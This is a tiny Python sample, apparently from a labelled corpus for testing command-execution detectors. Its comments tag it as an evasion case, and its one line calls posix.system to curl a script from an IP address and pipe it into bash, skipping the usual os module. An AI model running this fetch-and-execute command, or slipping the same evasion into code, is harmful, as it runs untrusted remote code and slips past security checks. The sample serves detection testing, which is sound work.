# evasion: the os functions called through the posix module that implements them
# grade: medium; does: shell
import posix

status = posix.system("curl -s http://203.0.113.7/i.sh | bash")
print("exit", status)
